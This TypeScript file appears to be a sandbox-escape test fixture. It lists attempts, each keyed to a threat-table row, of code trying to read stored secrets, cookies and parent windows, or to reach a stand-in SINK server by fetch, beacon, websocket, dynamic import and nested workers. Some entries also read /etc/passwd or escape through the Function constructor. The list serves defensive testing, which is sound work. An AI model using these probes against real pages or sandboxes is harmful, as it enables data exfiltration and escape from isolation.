/** One attempt of code to reach what it must not: it leaks where it returns anything but nothing. */
export interface Attempt {
  /** The row of the threat table that it tries. */
  readonly row: number;
  readonly name: string;
  /** The body of an async function; SINK stands for a server that must hear nothing, HOME for the application's. */
  readonly code: string;
}

const openDatabase = (factory: string) => `const factory = ${factory};
  return new Promise((resolve, reject) => {
    const request = factory.open('engines-secret');
    request.onerror = () => reject(request.error);
    request.onsuccess = () => {
      const get = request.result.transaction('kept').objectStore('kept').get('secret');
      get.onsuccess = () => resolve(get.result);
      get.onerror = () => reject(get.error);
    };
  });`;

/** The rows of the threat table that every engine is asked to refuse. */
export const attempts: readonly Attempt[] = [
  { row: 1, name: 'IndexedDB', code: openDatabase('indexedDB') },
  {
    row: 1,
    name: 'IndexedDB by the prototype of the global',
    code: openDatabase(
      "Object.getOwnPropertyDescriptor(Object.getPrototypeOf(Object.getPrototypeOf(self)), 'indexedDB').get.call(self)",
    ),
  },
  { row: 2, name: 'localStorage', code: "return localStorage.getItem('secret');" },
  { row: 2, name: 'sessionStorage', code: "return sessionStorage.getItem('secret');" },
  { row: 3, name: 'cookies', code: 'return document.cookie;' },
  { row: 3, name: 'the cookie store', code: "return (await cookieStore.get('secret')).value;" },
  {
    row: 4,
    name: 'caches',
    code: "return (await (await caches.open('engines-secret')).match('/secret')).text();",
  },
  {
    row: 5,
    name: 'the private file system',
    code: "return (await navigator.storage.getDirectory()).getFileHandle('secret.txt');",
  },
  { row: 6, name: 'file system of old', code: 'return webkitRequestFileSystemSync(0, 1024);' },
  { row: 7, name: 'locks', code: 'return navigator.locks.query();' },
  { row: 10, name: 'a shared worker', code: "return new SharedWorker('HOMEfavicon.svg');" },
  {
    row: 10,
    name: 'a service worker',
    code: "return navigator.serviceWorker.register('HOMEx.js');",
  },
  { row: 11, name: 'the parent', code: 'return parent.location.href;' },
  { row: 11, name: 'the top window', code: 'return top.document.title;' },
  {
    row: 12,
    name: 'the application by fetch',
    code: "return (await fetch('HOMEindex.html')).text();",
  },
  {
    row: 13,
    name: 'another origin by fetch',
    code: "return (await fetch('SINKfetch', { mode: 'no-cors' })).type;",
  },
  {
    row: 13,
    name: 'another origin by fetch that outlives the page',
    code: "return (await fetch('SINKkeep', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })).type;",
  },
  {
    row: 14,
    name: 'a data address',
    code: "return (await fetch('data:text/plain,secret')).text();",
  },
  { row: 14, name: 'a file', code: "return (await fetch('file:///etc/passwd')).text();" },
  {
    row: 15,
    name: 'a synchronous request',
    code: "const request = new XMLHttpRequest(); request.open('GET', 'SINKxhr', false); request.send(); return request.status;",
  },
  {
    row: 16,
    name: 'a web socket',
    code: "const socket = new WebSocket('SINKsocket'.replace('http', 'ws')); return new Promise((resolve, reject) => { socket.onopen = resolve; socket.onerror = reject; });",
  },
  {
    row: 17,
    name: 'an event source',
    code: "const source = new EventSource('SINKevents'); return new Promise((resolve, reject) => { source.onopen = resolve; source.onerror = reject; });",
  },
  {
    row: 18,
    name: 'web transport',
    code: "const t = new WebTransport('SINKt'.replace('http:', 'https:')); await t.ready; return 1;",
  },
  { row: 19, name: 'peer connections', code: 'return new RTCPeerConnection().createOffer();' },
  { row: 20, name: 'a beacon', code: "return navigator.sendBeacon('SINKbeacon', 'x');" },
  {
    row: 21,
    name: 'importScripts of another origin',
    code: "importScripts('SINKscript.js'); return 1;",
  },
  {
    row: 21,
    name: 'importScripts of data',
    code: "importScripts('data:text/javascript,1'); return 1;",
  },
  { row: 22, name: 'import of another origin', code: "return import('SINKmodule.js');" },
  { row: 22, name: 'import of the application', code: "return import('HOMEindex.html');" },
  {
    row: 22,
    name: 'import of data',
    code: "return import('data:text/javascript,export default 1');",
  },
  {
    row: 22,
    name: 'import of a blob',
    code: "return import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })));",
  },
  {
    row: 22,
    name: 'import in a made function',
    code: 'return new Function("return import(\'SINKmade.js\')")();',
  },
  {
    row: 23,
    name: 'import of JSON',
    code: "return new Function(\"return import('SINKdata.json', { with: { type: 'json' } })\")();",
  },
  {
    row: 24,
    name: 'import in a made generator',
    code: 'const Made = (async function* () {}).constructor; return (await new Made("yield await import(\'SINKgenerator.js\')")().next()).value;',
  },
  {
    row: 24,
    name: 'import in a timer of text',
    code: 'setTimeout("import(\'SINKtimer.js\')", 0); await new Promise((resolve) => setTimeout(resolve, 200));',
  },
  {
    row: 25,
    name: 'a nested worker',
    code: "const url = URL.createObjectURL(new Blob([\"fetch('SINKnested',{mode:'no-cors'}).then(()=>postMessage(1),()=>postMessage(0))\"])); const worker = new Worker(url); return new Promise((resolve, reject) => { worker.onmessage = ({ data }) => resolve(data); worker.onerror = reject; });",
  },
  {
    row: 25,
    name: 'a nested worker of another origin',
    code: "return new Worker('SINKworker.js');",
  },
  {
    row: 27,
    name: 'a font',
    code: "await new FontFace('x', 'url(SINKfont.woff2)').load(); return 1;",
  },
  {
    row: 28,
    name: 'a picture that loads another',
    code: 'const svg = new Blob([\'<svg xmlns="http://www.w3.org/2000/svg"><image href="SINKimage"/></svg>\'], { type: \'image/svg+xml\' }); return createImageBitmap(svg);',
  },
  { row: 29, name: 'a notification', code: "return new Notification('x', { icon: 'SINKicon' });" },
  {
    row: 30,
    name: 'WebAssembly from another origin',
    code: "return WebAssembly.compileStreaming(fetch('SINKwasm', { mode: 'no-cors' }));",
  },
  {
    row: 32,
    name: 'navigation',
    code: "self.location.href = 'SINKnavigate'; await new Promise((resolve) => setTimeout(resolve, 100));",
  },
  { row: 33, name: 'a window', code: "return self.open('SINKwindow');" },
  { row: 35, name: 'devices', code: 'return navigator.usb.getDevices();' },
  { row: 35, name: 'the graphics card', code: 'return navigator.gpu.requestAdapter();' },
  { row: 36, name: 'shared memory', code: 'return new SharedArrayBuffer(8);' },
  {
    row: 49,
    name: 'the storage by way of a constructor',
    code: "return [].constructor.constructor('return localStorage.secret')();",
  },
  {
    row: 52,
    name: 'require of a constructor',
    code: "const name = 'constructor'; return require(name);",
  },
  { row: 52, name: 'require of a path', code: "return require('../../../etc/passwd');" },
];
